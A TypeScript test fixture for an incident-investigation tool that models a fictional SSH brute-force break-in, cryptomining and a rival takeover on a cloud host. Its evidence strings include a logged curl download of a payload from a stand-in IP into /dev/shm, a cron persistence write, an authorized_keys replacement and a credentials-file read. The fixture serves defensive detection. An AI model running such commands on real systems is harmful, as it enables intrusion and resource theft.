import type { IncidentEntry, Investigation } from '../../story/document.ts'
import {
  at,
  auditProof,
  finding,
  incident,
  input,
  investigation,
  occupant,
  packetProof,
  proof,
  sentence,
} from './build.ts'

const GUESSES = [2, 4, 9, 31, 52, 40, 66, 71, 90, 38, 12, 88, 130, 212, 180, 96, 44, 20, 61, 3]

const login = proof()
const guessing = proof({
  line: 12_004,
  offset: 1_200_400,
  time: at('02:51:00'),
  raw: 'May 12 02:51:00 web-1 sshd[3022]: Failed password for root from 203.0.113.9 port 40112 ssh2',
})
const download = auditProof(
  '88412',
  'type=EXECVE msg=audit(1778555671.443:88412): argc=4 a0="curl" a1="-so" a2="/dev/shm/.x" a3="http://203.0.113.77/x"',
)
const cron = auditProof(
  '88467',
  'type=PATH msg=audit(1778555702.101:88467): item=1 name="/etc/cron.d/0kz" nametype=CREATE',
  at('03:15:02'),
)
const firstShare = packetProof(
  118_204,
  '{"id":2,"jsonrpc":"2.0","method":"submit","params":{"id":"a1","job_id":"42","nonce":"d00d0000","result":"9f…"}}',
)
const kills = auditProof(
  '90127',
  'type=EXECVE msg=audit(1778562404.020:90127): argc=3 a0="pkill" a1="-9" a2="xmrig"',
  at('05:06:44'),
)
const keys = auditProof(
  '90166',
  'type=PATH msg=audit(1778562406.611:90166): item=1 name="/root/.ssh/authorized_keys" nametype=NORMAL',
  at('05:06:46'),
)
const secondShare = packetProof(
  402_118,
  '{"id":7,"jsonrpc":"2.0","method":"submit","params":{"id":"b7","job_id":"90","nonce":"00ff0000","result":"11…"}}',
  at('05:07:30'),
)

/** One machine, guessed open, held by two in turn: everything a document can say about an incident. */
export function battleIncident(): IncidentEntry {
  return incident({
    summary: [
      sentence(
        "Somebody guessed root's SSH password on 12 May 2026 at 03:14 UTC and mines Monero on this machine since 03:16.",
        null,
        login,
        firstShare,
      ),
      sentence('Two gangs have fought over it; the second one holds it now.', null, kills),
      sentence(
        'Treat it as a break-in, not as a nuisance: who can start a miner can read what is on this machine, and often sells the access.',
      ),
    ],
    wayIn: {
      kind: 'ssh-password',
      time: at('03:14:07'),
      srcIp: '203.0.113.9',
      user: 'root',
      confidence: 0.95,
      evidence: [login],
    },
    occupants: [
      occupant({
        reasons: ['mines Monero with XMRig/6.21.0', 'one wallet in every dialogue with 198.51.100.7'],
        artefacts: [
          { type: 'wallet', value: `48${'exampleWALLET'.repeat(7)}Kq`, evidence: [firstShare] },
          { type: 'pool', value: '198.51.100.7:443', evidence: [firstShare] },
          { type: 'path', value: '/dev/shm/.x', evidence: [download] },
          { type: 'path', value: '/etc/cron.d/0kz', evidence: [cron] },
        ],
      }),
      occupant({
        id: '44ex…Zz',
        family: '8220',
        familyConfidence: 0.6,
        reasons: ['kill list names 14 rivals in the order 8220 uses', 'unit netd.service'],
        artefacts: [
          { type: 'wallet', value: `44${'madeUPwallet'.repeat(7)}Zz`, evidence: [secondShare] },
          { type: 'pool', value: 'pool.mine.example:3333', evidence: [secondShare] },
        ],
      }),
    ],
    tenures: [
      {
        occupant: 'unknown-1',
        start: at('03:14:31'),
        end: at('05:06:44'),
        startKnown: true,
        endKnown: true,
        confidence: 0.9,
        hashrate: 1210,
        sharesAccepted: 812,
        evidence: [firstShare],
      },
      {
        occupant: '44ex…Zz',
        start: at('05:06:44'),
        end: at('07:02:10'),
        startKnown: true,
        endKnown: false,
        confidence: 0.9,
        hashrate: 1904,
        sharesAccepted: 1290,
        evidence: [secondShare],
      },
    ],
    changes: [
      {
        time: at('05:06:44'),
        from: 'unknown-1',
        to: '44ex…Zz',
        how: ['killed 14 names', 'wiped the crontab', "replaced root's key"],
        confidence: 0.9,
        evidence: [kills, keys],
      },
    ],
    reach: [
      {
        what: 'AWS key in /root/.aws/credentials (not seen used)',
        kind: 'credentials',
        evidence: [
          auditProof('88501', 'type=PATH name="/root/.aws/credentials" nametype=NORMAL', at('03:18:44')),
        ],
      },
    ],
    money: {
      usdSoFar: 1.94,
      usdPerHour: 0.0832,
      usdPerMonth: 118.4,
      timesNormal: 1.8,
      basis:
        't3.large at $0.0832 an hour on demand (us-east-1, list of 2026-05-01) for 3 h 48 min, plus unlimited-mode CPU credits at $0.05 per vCPU hour; no bill was given, so normal is taken from the first hour.',
    },
    findings: [
      finding(),
      finding({
        id: 'fnd-1',
        detector: 'foothold',
        title: 'Program downloaded to /dev/shm and started',
        stage: 'foothold',
        attack: [{ id: 'T1105', name: 'Ingress Tool Transfer', v18: null }],
        firstSeen: at('03:14:31'),
        lastSeen: at('03:14:33'),
        count: 2,
        evidence: [download],
      }),
      finding({
        id: 'fnd-2',
        detector: 'persistence',
        title: 'Cron job written: /etc/cron.d/0kz',
        stage: 'persistence',
        attack: [{ id: 'T1053.003', name: 'Cron', v18: null }],
        firstSeen: at('03:15:02'),
        lastSeen: at('03:15:02'),
        evidence: [cron],
      }),
      finding({
        id: 'fnd-3',
        detector: 'stratum',
        title: 'Monero mined for 198.51.100.7:443',
        severity: 'critical',
        confidence: 0.99,
        stage: 'mining',
        attack: [{ id: 'T1496.001', name: 'Compute Hijacking', v18: 'T1496' }],
        firstSeen: at('03:16:02'),
        lastSeen: at('07:02:10'),
        count: 2102,
        evidence: [firstShare, secondShare],
      }),
    ],
    sentences: [
      sentence(
        'Guessing at SSH passwords begins from 203.0.113.9: 4,112 tries seen.',
        at('02:51:00'),
        guessing,
      ),
      sentence(
        'Root is logged in by password from 203.0.113.9 after 4,112 failed tries.',
        at('03:14:07'),
        login,
      ),
      sentence('Miner downloaded from 203.0.113.77 and started from /dev/shm/.x.', at('03:14:31'), download),
      sentence('Cron job written: /etc/cron.d/0kz.', at('03:15:02'), cron),
      sentence(
        'First share to 198.51.100.7:443 (Monero, XMRig 6.21, wallet 48ex…Kq).',
        at('03:16:02'),
        firstShare,
      ),
      sentence(
        "8220-like took over: killed 14 names, wiped the crontab, replaced root's key, left a decoy at /etc/cron.d/0systemd-service.",
        at('05:06:44'),
        kills,
        keys,
      ),
      sentence(
        'First share to pool.mine.example:3333 (Monero, wallet 44ex…Zz).',
        at('05:07:30'),
        secondShare,
      ),
    ],
    strips: [{ label: 'guessing', from: at('02:51:00'), to: at('03:14:07'), values: GUESSES }],
    todo: [
      {
        text: "Cut off its traffic to 198.51.100.7:443 and logins from 203.0.113.9, at the cloud's firewall rather than on the machine.",
      },
      {
        text: 'Look at everything the first hour shows before you clean up.',
        command:
          'davylamp events evidence --asset web-1 --since 2026-05-12T02:50:00Z --until 2026-05-12T04:00:00Z',
      },
      {
        text: 'Take away what brings them back: /etc/cron.d/0kz, /root/.ssh/authorized_keys line 1, unit netd.service; then end process 4711 and what it started.',
      },
      {
        text: "Change root's password, and let SSH in by key only (PasswordAuthentication no), from the networks you work in only.",
      },
    ],
  })
}

export function battle(): Investigation {
  return investigation({
    inputs: [
      input({
        file: 'evidence/eth0.pcap',
        format: 'capture',
        storedBytes: 388_000_000,
        bytes: 388_000_000,
        records: 2_904_118,
        bad: 3,
        from: at('02:40:00'),
        problems: ['ends in the middle of packet 2,904,119: the file was cut off'],
      }),
      input({ decisions: ["year 2026: from the file's date", 'zone UTC: assumed'] }),
      input({
        file: 'evidence/audit.log',
        format: 'auditd',
        storedBytes: 9_100_000,
        bytes: 9_100_000,
        records: 31_022,
      }),
    ],
    skipped: [{ file: 'evidence/notes.docx', reason: 'not a format I know' }],
    coverage: [
      { asset: 'web-1', kind: 'network', from: at('02:40:00'), to: at('07:02:10'), note: 'capture on eth0' },
      { asset: 'web-1', kind: 'login', from: at('00:00:01'), to: at('07:02:10'), note: 'auth.log' },
      {
        asset: 'db-2',
        kind: 'process',
        from: null,
        to: null,
        note: 'nothing; switch on auditd to see what runs there',
      },
    ],
    assets: [
      {
        id: 'web-1',
        names: ['web-1', '10.0.3.17', 'i-0a1b2c3d', 't3.large'],
        status: 'occupied',
        reason: 'mining and a way in',
        joins: ['web-1 is 10.0.3.17: the login at 03:14:07 is in the capture and in auth.log'],
      },
      { id: 'db-2', names: ['db-2', '10.0.3.20'], status: 'pressure', reason: 'guessing only', joins: [] },
      {
        id: 'web-2',
        names: ['web-2'],
        status: 'clean',
        reason: 'logins, processes and network seen throughout',
        joins: [],
      },
      {
        id: 'web-3',
        names: ['web-3'],
        status: 'clean',
        reason: 'logins, processes and network seen throughout',
        joins: [],
      },
      {
        id: 'cache-1',
        names: ['cache-1', '10.0.3.31'],
        status: 'not-judged',
        reason: 'no evidence after 04:10',
        joins: [],
        toJudge: [
          {
            text: 'add a capture of its traffic, taken on it, of ten minutes',
            command: 'sudo timeout 600 tcpdump -i any -w FILE.pcap',
          },
        ],
      },
    ],
    incidents: [battleIncident()],
    campaigns: [],
    pressure: [
      {
        asset: 'db-2',
        kind: 'SSH password guessing',
        count: 18_220,
        sources: 41,
        sourceIps: ['198.51.100.23', '203.0.113.40'],
        firstSeen: at('01:02:03'),
        lastSeen: at('06:58:00'),
      },
    ],
    attention: [],
    suppressed: [{ what: 'mining on build-7', reason: 'known: own node, until 2026-12-31', count: 3 }],
    notes: ['The clock of web-1 is 1.2 s ahead of the capture: the same login is in both.'],
  })
}
